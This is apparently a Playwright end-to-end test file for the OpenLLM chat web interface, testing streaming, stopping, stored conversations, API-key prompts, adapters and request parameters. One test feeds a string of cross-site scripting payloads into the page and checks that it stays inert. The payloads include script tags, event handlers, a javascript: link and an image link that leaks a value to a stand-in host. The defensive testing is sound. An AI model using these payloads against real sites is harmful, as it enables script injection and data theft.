"""The chat in a real Chromium against the real application: what a person does, and what goes wrong around them."""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, expect
from tests.tiny_adapters import blank_adapter

from openllm.serialisation.adapters import AdapterStore
from openllm_core.options import StoreOptions

from .chromium import open_browser
from .pages import UI, Running, server, until, web_ui

ANSWER = "Here is **one**:\n\n```python\nprint('<b>')\n```\n\n- first\n- second\n"
HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

<svg onload="window.hacked = 3"></svg> [run](javascript:window.hacked=4) ![pic](http://192.0.2.1/leak.png?q=secret)

<iframe srcdoc="<script>parent.hacked=5</script>"></iframe>
<a href="data:text/html,<script>opener.hacked=6</script>">data</a> <style>body { display: none }</style>

```html
<script>window.hacked = 7</script>
```
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One browser for the module; each test has a profile of its own."""
    with open_browser() as opened:
        yield opened


@pytest.fixture(scope="module")
def plain() -> Iterator[Running]:
    """A server that answers at once."""
    with server(reply=ANSWER, embed=4) as running:
        yield running


@pytest.fixture
def ui(browser: Browser) -> Iterator[UI]:
    """A page that has not gone anywhere."""
    with web_ui(browser) as opened:
        yield opened


@pytest.mark.parametrize("path", ["/", "/chat"])
def test_an_answer_streams_in_as_markdown_with_its_figures(ui: UI, path: str) -> None:
    """Words appear before the answer is whole; then it stands there rendered, with token counts and speed."""
    with server(reply=ANSWER, step_s=0.01) as running:
        ui.open(running.url + path)
        ui.say("Show me one")
        expect(ui.answers).to_contain_text("Here is")
        assert ui.answers.get_attribute("aria-busy") == "true"
        ui.whole()
    expect(ui.answers.locator("strong")).to_have_text("one")
    expect(ui.answers.locator("pre")).to_have_text("print('<b>')")
    expect(ui.answers.locator("pre .hljs-string")).to_have_text("'<b>'")
    expect(ui.answers.locator("li")).to_have_text(["first", "second"])
    figures = ui.answers.locator(".figures").inner_text()
    assert re.fullmatch(r"\d+ tokens in, \d+ out · [\d.]+ tokens/s · first after [\d.]+ s", figures), figures


def test_stop_ends_the_generation_on_the_server(ui: UI) -> None:
    """What came is kept and marked; the engine runs nothing any more; the next question works."""
    with server(reply="word " * 700, step_s=0.01) as running:
        ui.open(running.url)
        ui.say("Talk")
        expect(ui.answers).to_contain_text("word word")
        assert running.metric("openllm_requests_running") == 1
        ui.named("button", "Stop").click()
        expect(ui.answers).to_contain_text("Stopped here.")
        until(ui.page, lambda: running.metric("openllm_requests_running") == 0)
        ui.say("And again")
        expect(ui.answers.nth(1)).to_contain_text("word")
        ui.field.press("Escape")
        expect(ui.answers.nth(1)).to_contain_text("Stopped here.")
        until(ui.page, lambda: running.metric("openllm_requests_running") == 0)


def kept(ui: UI) -> int:
    """How many conversations the browser has written down; it does so a moment later."""
    return ui.page.evaluate(
        """() => new Promise((done, fail) => { const opened = indexedDB.open('openllm'); opened.onerror = fail;
            opened.onsuccess = () => { const all = opened.result.transaction('conversations').objectStore('conversations').count();
                all.onsuccess = () => { opened.result.close(); done(all.result); }; }; })"""
    )


def test_regenerate_edit_and_several_conversations_survive_a_reload(ui: UI, plain: Running) -> None:
    """Conversations are kept in the browser, can be renamed and deleted; an answer or a question can be had anew."""
    ui.open(plain.url)
    ui.say("First question")
    ui.whole()
    ui.named("button", "Regenerate").click()
    ui.whole()
    assert ui.answers.count() == 1
    ui.page.locator("article.user").hover()
    ui.named("button", "Edit the message").click()
    assert ui.field.input_value() == "First question" and ui.answers.count() == 0
    ui.say("A better question")
    ui.whole()
    ui.named("button", "New conversation", exact=True).first.click()
    ui.say("Second topic")
    ui.whole()
    until(ui.page, lambda: kept(ui) == 2)
    ui.page.reload()
    entries = ui.page.locator(".conversations .title")
    expect(entries).to_have_text(["New conversation", "Second topic", "A better question"])
    entries.nth(2).click()
    expect(entries).to_have_text(["Second topic", "A better question"])
    expect(ui.page.locator("article.user")).to_have_text("A better question")
    expect(ui.answers.locator("strong")).to_have_text("one")
    entries.nth(1).hover()
    ui.named("button", "Rename A better question").click()
    ui.named("textbox", "Title").fill("Renamed")
    ui.page.keyboard.press("Enter")
    expect(entries.nth(0)).to_have_text("Renamed")
    entries.nth(0).hover()
    ui.named("button", "Delete Renamed").click()
    ui.named("button", "Delete", exact=True).click()
    expect(entries).to_have_text(["Second topic"])
    until(ui.page, lambda: kept(ui) == 1)
    ui.page.reload()
    expect(entries).to_have_text(["New conversation", "Second topic"])


def test_nothing_that_is_written_is_ever_run(ui: UI) -> None:
    """Scripts, handlers, frames, styles and links of an answer, of a pasted message and of a system prompt stay text."""
    with server(reply=HOSTILE) as running:
        ui.open(running.url)
        ui.named("button", "Parameters", exact=True).click()
        ui.named("textbox", "System prompt").fill(HOSTILE)
        ui.page.evaluate("text => navigator.clipboard.writeText(text)", HOSTILE)
        ui.field.press("ControlOrMeta+v")
        ui.field.press("Enter")
        ui.whole()
        expect(ui.answers).to_contain_text("<script>window.hacked = 1</script>")
        expect(ui.page.locator("article.user")).to_contain_text("<script>window.hacked = 1</script>")
        ui.answers.get_by_text("run", exact=True).click()
        assert ui.page.evaluate("window.hacked") is None
        assert (
            ui.page.locator("article :is(script, img, iframe, style, svg:not(.icon), [onerror], [onload])").count() == 0
        )
        links = ui.answers.locator("a").evaluate_all("all => all.map(a => [a.protocol, a.rel, a.target])")
        assert links == [["http:", "noopener noreferrer", "_blank"]]
        ui.page.reload()
        expect(ui.page.locator(".conversations")).to_contain_text("<script>")
        assert ui.page.evaluate("window.hacked") is None


def test_the_policy_holds_even_against_a_script_of_our_own(browser: Browser, plain: Running) -> None:
    """The browser itself refuses markup made of text, code of other places, and requests to other hosts."""
    page = browser.new_page()
    page.goto(plain.url)
    page.evaluate(
        """() => { window.codes = {
            html: () => document.body.innerHTML = '<b>x</b>', write: () => document.write('x'),
            eval: () => (0, eval)('1'), made: () => new Function('return 1')(),
            script: () => document.createElement('script').src = 'data:text/javascript,1' }; }"""
    )
    # What a debugger itself runs is exempt, so it is run a moment later.
    later = """code => new Promise(done => setTimeout(() => {
        try { done('ran ' + codes[code]()); } catch (error) { done(error.name); } }))"""
    for code in ("html", "write", "eval", "made", "script"):
        assert page.evaluate(later, code) in ("TypeError", "EvalError"), code
    assert page.evaluate("() => fetch('http://192.0.2.1/').then(() => 'asked', error => error.name)") == "TypeError"
    page.close()


def test_a_key_is_asked_for_and_a_wrong_one_asked_for_again(ui: UI) -> None:
    """A missing key opens the dialog, a wrong one says that it was refused, the right one is used and forgotten with the tab."""
    with server(reply="Hello!", options={"api_key": ("right",)}) as running:
        ui.open(running.url, ready=False)
        dialog = ui.named("dialog", "API key")
        expect(dialog).to_contain_text("answers only with a key")
        dialog.get_by_label("API key").fill("wrong")
        ui.page.keyboard.press("Enter")
        refused = ui.named("dialog", "This key was refused")
        expect(refused).to_contain_text("does not know the key")
        refused.get_by_label("API key").fill("right")
        ui.named("button", "Use this key").click()
        expect(ui.named("button", re.compile("Server .*: ready"))).to_be_visible()
        ui.say("Hi")
        expect(ui.answers).to_contain_text("Hello!")
        assert "right" not in ui.page.evaluate("JSON.stringify(localStorage)")
        assert "right" in ui.page.evaluate("JSON.stringify(sessionStorage)")
        ui.named("button", "API key").click()
        ui.named("dialog", "API key").get_by_label("API key").fill("right")
        ui.named("checkbox", "Remember it on this device").check()
        ui.named("button", "Use this key").click()
        assert "right" in ui.page.evaluate("JSON.stringify(localStorage)")
        ui.page.reload()
        expect(ui.named("button", re.compile("Server .*: ready"))).to_be_visible()


def test_a_key_that_is_withdrawn_is_asked_for_while_one_talks(ui: UI) -> None:
    """A 401 in the middle of a conversation opens the dialog; what was said stays."""
    with server(reply="Hello!", options={"api_key": ("right",)}) as running:
        ui.open(running.url, ready=False)
        ui.named("dialog", "API key").get_by_label("API key").fill("right")
        ui.page.keyboard.press("Enter")
        expect(ui.named("button", re.compile("Server .*: ready"))).to_be_visible()
        ui.page.route("**/v1/chat/completions", lambda route: route.continue_(headers={"authorization": "Bearer old"}))
        ui.say("Hi")
        expect(ui.named("dialog", "This key was refused")).to_be_visible()
        expect(ui.answers).to_contain_text("No answer came.")


def test_no_model_to_ask(ui: UI, plain: Running) -> None:
    """A server that lists no model is told as that, and nothing can be sent; when one comes, it goes on by itself."""
    ui.page.route("**/v1/models", lambda route: route.fulfill(json={"object": "list", "data": []}))
    ui.open(plain.url, ready=False)
    expect(ui.notice).to_contain_text("There is no model to ask.")
    ui.field.fill("Hi")
    expect(ui.named("button", "Send")).to_be_disabled()
    ui.page.unroute("**/v1/models")
    expect(ui.named("button", "Send")).to_be_enabled()
    expect(ui.notice).to_have_count(0)


def test_a_model_that_still_loads(ui: UI) -> None:
    """The page says so, and is ready when the model is."""
    with server(ready=False, reply="x", load_s=1) as running:
        ui.open(running.url, ready=False)
        expect(ui.notice).to_contain_text("The model is not ready yet.")
        expect(ui.notice).to_have_count(0)
        ui.say("Hi")
        ui.whole()


def test_a_stream_that_is_cut_keeps_what_came(ui: UI) -> None:
    """The server is gone in the middle of an answer: its beginning stays, marked; the page says what is wrong."""
    with server(reply="word " * 400, step_s=0.01) as running:
        ui.open(running.url)
        ui.say("Talk")
        expect(ui.answers).to_contain_text("word word")
    expect(ui.answers).to_contain_text("The answer was cut here.")
    expect(ui.answers).to_contain_text("word word")
    expect(ui.notice).to_contain_text("Nothing answers at")
    expect(ui.notice).to_contain_text("openllm start")


def test_adapters_stand_beside_the_model(ui: UI, tmp_path: Path) -> None:
    """The picker lists them apart; the one that is chosen answers, and stays chosen."""
    store = StoreOptions(home=str(tmp_path))
    AdapterStore(store).add("poet", blank_adapter(tmp_path / "poet", echo="Roses are red"), "poet")
    options = {"allow_adapter_load": True}
    with server(reply="Prose.", options=options, engine={"max_adapters": 1}, store=store) as running:
        httpx.post(f"{running.url}/v1/adapters/load", json={"adapter_name": "poet"}).raise_for_status()
        ui.open(running.url)
        picker = ui.named("combobox", "Model or adapter")
        assert picker.locator("optgroup").evaluate_all("all => all.map(each => each.label)") == ["Model", "Adapters"]
        picker.select_option("poet")
        ui.say("Hi")
        expect(ui.answers).to_contain_text("Roses are red")
        ui.page.reload()
        expect(picker).to_have_value("poet")


def test_parameters_go_into_the_request_and_the_code_shown_is_that_request(
    ui: UI, plain: Running, tmp_path: Path
) -> None:
    """What is set is sent and nothing else; a faulty field says why; curl and Python as shown get the same answer."""
    ui.open(plain.url)
    ui.named("button", "Parameters", exact=True).click()
    ui.named("textbox", "System prompt").fill('It\'s "quoted" $HOME `x`')
    ui.named("textbox", "Temperature").fill("0")
    ui.named("textbox", "Top k").fill("5")
    ui.named("textbox", "Top p").fill("7")
    expect(ui.page.get_by_text("This must be at most 1. It is not sent.")).to_be_visible()
    ui.named("textbox", "Most tokens").fill("12")
    with ui.page.expect_request("**/v1/chat/completions") as asked:
        ui.say("Hi")
    body: dict[str, Any] = asked.value.post_data_json or {}
    assert {name: body[name] for name in ("temperature", "top_k", "max_tokens")} == {
        "temperature": 0,
        "top_k": 5,
        "max_tokens": 12,
    }
    assert "top_p" not in body and body["messages"][0] == {"role": "system", "content": 'It\'s "quoted" $HOME `x`'}
    expect(ui.answers).to_contain_text("The limit of tokens was reached")
    ui.page.locator("article.user").hover()
    ui.named("button", "Show the request as code").click()
    text = ui.page.locator("#request-text code")
    curl = subprocess.run(
        ["bash", "-c", text.inner_text()], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    assert "".join(re.findall(r'"content":"([^"]*)"', curl)) == "Here is **on" and curl.endswith("data: [DONE]\n\n")
    ui.named("tab", "Python").click()
    program = tmp_path / "ask.py"
    program.write_text(text.inner_text(), encoding="utf-8")
    ran = subprocess.run([sys.executable, program], capture_output=True, text=True, check=False, timeout=60)
    assert (ran.returncode, ran.stdout) == (0, "Here is **on\n"), ran.stderr
